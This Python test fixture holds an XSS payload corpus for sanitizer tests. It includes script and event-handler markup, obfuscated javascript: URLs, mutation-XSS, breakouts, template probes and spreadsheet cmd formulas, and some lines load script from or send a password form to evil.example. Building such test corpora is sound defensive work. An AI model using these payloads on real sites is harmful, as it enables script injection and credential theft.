"""Hostile strings for tests/test_xss_corpus.py: script and handler markup, dangerous URL schemes in every
HTML and Markdown link form (with case, entity, whitespace and control-character obfuscation), mutation-XSS
shapes, attribute and context breakouts, CSS, embedding and navigation elements, template injection and
spreadsheet formulas. Each string is short enough to fit a 120-character field.
"""

from __future__ import annotations

JS = "alert(1)"

# Ways of writing a dangerous URL that browsers (or lenient parsers) still resolve to a script scheme.
HOSTILE_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#13;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "&#0000106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript://%0Aalert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
)

# How a URL reaches a page: raw HTML (refused by the renderer, escaped elsewhere) and every Markdown form.
URL_FORMS = (
    '<a href="{u}">x</a>',
    "<a href={u}>x</a>",
    "[x]({u})",
    "![x]({u})",
    "<{u}>",
    "[x][r]\n\n[r]: {u}",
    '<iframe src="{u}"></iframe>',
)

# Markup that runs script through an event handler.
HANDLER_TAGS = (
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<SVG ONLOAD=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onpointerover=alert(1)>x</div>",
    "<a onmouseover=alert(1)>x</a>",
    "<p onclick=alert(1)>x</p>",
    "<button onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    "<math><maction actiontype=statusline onclick=alert(1)>x",
    "<x contenteditable onblur=alert(1)>x",
    "<style onload=alert(1)></style>",
    "<table background=javascript:alert(1)>",
)

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\n>alert(1)</script\n>",
    '<script type="module">alert(1)</script>',
    "<script>/*</script><script>*/alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><script>alert(1)</script></math>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)

# Mutation XSS: markup that changes meaning when parsed, serialised and parsed again.
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<style><p title="</style><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi><mglyph><svg><mtext><style><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<a title='`'><img src=x onerror=alert(1)>`'>",
    '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
)

# Breaking out of the attribute, element or script context the text lands in.
BREAKOUTS = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"/><svg onload=alert(1)>',
    "` onmouseover=alert(1) x=`",
    "x onmouseover=alert(1) y=",
    '" style="x:expression(alert(1))',
    '"><a href="javascript:alert(1)">x</a>',
    "</a><a href=javascript:alert(1)>x</a>",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "</script><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "\u2028alert(1)\u2029",
)

CSS = (
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="x:expr/**/ession(alert(1))">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',
    "<style>*{x:expression(alert(1))}</style>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
)

# Elements that embed, navigate, submit or restyle: none may come from a person's text.
ELEMENTS = (
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<object data=javascript:alert(1)></object>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    "<embed src=data:image/svg+xml,<svg/onload=alert(1)>>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<form id=xss action=//evil.example><input name=password></form>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<input type=image formaction=javascript:alert(1) src=x>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=//evil.example/>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=//evil.example">',
    '<meta http-equiv="Set-Cookie" content="x=1">',
    "<applet code=x></applet>",
    "<frame src=javascript:alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text y=9>x</text></a></svg>',
    '<math href="javascript:alert(1)">x</math>',
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<svg><use href=data:image/svg+xml,<svg id=x onload=alert(1)>#x />",
    "<svg><image href=x onerror=alert(1) />",
    "<video poster=javascript:alert(1)>",
    '<a href="#" target=_blank rel=opener>x</a>',
    "<portal src=//evil.example></portal>",
)

# Markdown forms beyond the URL table: titles, image attributes, nested brackets, HTML inside Markdown.
MARKDOWN = (
    '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    '[x](https://ok.example "</noscript><img src=x onerror=alert(1)>")',
    "[x](https://ok.example'onmouseover='alert(1))",
    '![x" onerror="alert(1)](x)',
    '![x](x" onerror="alert(1))',
    "![x](x onerror=alert(1))",
    "[x](javascript:alert(1) 'title')",
    "[x](<javascript:alert(1)>)",
    "[[x](javascript:alert(1))](https://ok.example)",
    "[x](javascript:alert%281%29)",
    "[x](javascript:window['al'+'ert'](1))",
    "[x]( javascript:alert(1) )",
    "[x](j a v a s c r i p t:alert(1))",
    "[x](\\javascript:alert(1))",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]\n\n[x]: <javascript:alert(1)> 'y'",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "**<svg onload=alert(1)>**",
    "# <script>alert(1)</script>",
    "~~<iframe src=javascript:alert(1)>~~",
    "<details><summary>x</summary><script>alert(1)</script></details>",
    '<http://ok.example/"onmouseover="alert(1)>',
    "[x](https://ok.example/<script>)",
    "[x](mailto:a@b.example?body=<script>alert(1)</script>)",
)

# Text that would be dangerous if a template engine compiled it, and spreadsheet formulas (CSV downloads).
TEMPLATES = (
    "{{ 7|add:7 }}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 9 as log %}",
    "{% csrf_token %}",
    "{# hidden #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)


def _url_payloads() -> list[str]:
    return [form.format(u=url) for url in HOSTILE_URLS for form in URL_FORMS]


def all_payloads() -> list[str]:
    """The corpus, in a fixed order, without duplicates."""
    everything = [
        *SCRIPTS,
        *HANDLER_TAGS,
        *MUTATIONS,
        *BREAKOUTS,
        *CSS,
        *ELEMENTS,
        *MARKDOWN,
        *_url_payloads(),
        *TEMPLATES,
        *FORMULAS,
    ]
    return list(dict.fromkeys(everything))


PAYLOADS = all_payloads()
